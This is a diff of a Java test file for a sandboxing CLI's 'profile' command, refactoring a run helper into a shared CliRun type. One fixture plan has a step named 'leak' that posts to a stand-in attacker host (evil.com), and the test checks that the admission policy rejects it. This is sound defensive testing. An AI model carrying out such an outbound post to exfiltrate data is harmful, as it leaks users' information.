@@ -1,10 +1,9 @@
 package dev.rtfs.microvm.cli;
 
+import static dev.rtfs.microvm.cli.CliRun.run;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.io.IOException;
-import java.io.PrintWriter;
-import java.io.StringWriter;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -38,15 +37,6 @@ class ProfileCommandTest {
 
     @TempDir Path dir;
 
-    private record Result(int exit, String out, String err) { }
-
-    private static Result run(String... args) {
-        StringWriter out = new StringWriter();
-        StringWriter err = new StringWriter();
-        int exit = Main.run(args, new PrintWriter(out, true), new PrintWriter(err, true));
-        return new Result(exit, out.toString(), err.toString());
-    }
-
     private String file(String name, String text) throws IOException {
         Path p = dir.resolve(name);
         Files.writeString(p, text, StandardCharsets.UTF_8);
@@ -55,7 +45,7 @@ class ProfileCommandTest {
 
     @Test
     void textModePrintsAStepTable() throws IOException {
-        Result r = run("profile", "--config", file("agent.rtfs", CONFIG), file("plan.rtfs", PLAN));
+        CliRun r = run("profile", "--config", file("agent.rtfs", CONFIG), file("plan.rtfs", PLAN));
         assertThat(r.exit()).as(r.err() + r.out()).isZero();
         assertThat(r.out()).contains("admitted for agent agent.cli: 3 step(s)");
         String[] lines = r.out().split("\n");
@@ -67,7 +57,7 @@ class ProfileCommandTest {
 
     @Test
     void jsonModePrintsTheStepProfileArray() throws IOException {
-        Result r = run("profile", "--config", file("agent.rtfs", CONFIG), file("plan.rtfs", PLAN), "--format", "json");
+        CliRun r = run("profile", "--config", file("agent.rtfs", CONFIG), file("plan.rtfs", PLAN), "--format", "json");
         assertThat(r.exit()).as(r.err()).isZero();
         JsonNode profiles = JsonMapper.builder().build().readTree(r.out());
         assertThat(profiles.isArray()).isTrue();
@@ -87,7 +77,7 @@ class ProfileCommandTest {
         String macros = file("macros.rtfs", "(defn mk [id domains]\n  " + CONFIG.strip()
                 .replace("\"agent.cli\"", "id").replace("[\"example.com\"]", "domains") + ")\n");
         String cfg = file("agent.rtfs", "(mk \"agent.macro\" [\"example.com\"])");
-        Result r = run("profile", "--load", macros, "--config", cfg, file("plan.rtfs", PLAN));
+        CliRun r = run("profile", "--load", macros, "--config", cfg, file("plan.rtfs", PLAN));
         assertThat(r.exit()).as(r.err() + r.out()).isZero();
         assertThat(r.out()).contains("admitted for agent agent.macro: 3 step(s)");
     }
@@ -99,11 +89,11 @@ class ProfileCommandTest {
                   (do (step "leak" (call :http.post {:url "https://evil.com/x"}))
                       (step "dyn" (call :http.get {:url u}))))
                 """);
-        Result text = run("profile", "--config", file("agent.rtfs", CONFIG), plan);
+        CliRun text = run("profile", "--config", file("agent.rtfs", CONFIG), plan);
         assertThat(text.exit()).isEqualTo(1);
         assertThat(text.out()).contains("ADMISSION_DOMAIN_DENIED").contains("ADMISSION_UNDECLARED_CALL")
                 .contains(plan + ":2:").contains(plan + ":3:");
-        Result json = run("profile", "--config", dir.resolve("agent.rtfs").toString(), plan, "--format", "json");
+        CliRun json = run("profile", "--config", dir.resolve("agent.rtfs").toString(), plan, "--format", "json");
         assertThat(json.exit()).isEqualTo(1);
         JsonNode report = JsonMapper.builder().build().readTree(json.out());
         assertThat(report.toString()).contains("ADMISSION_DOMAIN_DENIED").contains("steps.leak.effects.network.domains");
@@ -112,7 +102,7 @@ class ProfileCommandTest {
     @Test
     void invalidConfigIsReportedAndRefused() throws IOException {
         String cfg = file("agent.rtfs", CONFIG.replace(":ro true}", ":ro false}"));
-        Result r = run("profile", "--config", cfg, file("plan.rtfs", PLAN));
+        CliRun r = run("profile", "--config", cfg, file("plan.rtfs", PLAN));
         assertThat(r.exit()).isEqualTo(1);
         assertThat(r.out()).contains("MICROVM_ROOTFS_RW");
     }
@@ -120,7 +110,7 @@ class ProfileCommandTest {
     @Test
     void usageErrorsExitTwo() throws IOException {
         String cfg = file("agent.rtfs", CONFIG);
-        Result missing = run("profile", "--config", cfg, dir.resolve("nope.rtfs").toString());
+        CliRun missing = run("profile", "--config", cfg, dir.resolve("nope.rtfs").toString());
         assertThat(missing.exit()).isEqualTo(2);
         assertThat(missing.err()).contains("no such file").doesNotContain("Exception");
         assertThat(run("profile", file("plan.rtfs", PLAN)).exit()).as("--config is required").isEqualTo(2);
@@ -129,7 +119,7 @@ class ProfileCommandTest {
 
     @Test
     void syntaxErrorInThePlanIsADiagnostic() throws IOException {
-        Result r = run("profile", "--config", file("agent.rtfs", CONFIG), file("plan.rtfs", "(plan :program (step \"a\" 1)"));
+        CliRun r = run("profile", "--config", file("agent.rtfs", CONFIG), file("plan.rtfs", "(plan :program (step \"a\" 1)"));
         assertThat(r.exit()).isEqualTo(1);
         assertThat(r.out()).contains("RTFS_SYNTAX");
     }
@@ -139,7 +129,7 @@ class ProfileCommandTest {
         String cfg = file("agent.rtfs", CONFIG);
         Path plan = dir.resolve("plan.rtfs");
         Files.write(plan, new byte[] {'(', 'p', (byte) 0xDD, ')'});
-        Result r = run("profile", "--config", cfg, plan.toString());
+        CliRun r = run("profile", "--config", cfg, plan.toString());
         assertThat(r.exit()).isEqualTo(1);
         assertThat(r.out()).contains("RTFS_SYNTAX").contains("invalid UTF-8").contains("invalid: " + plan)
                 .doesNotContain("invalid: " + cfg);
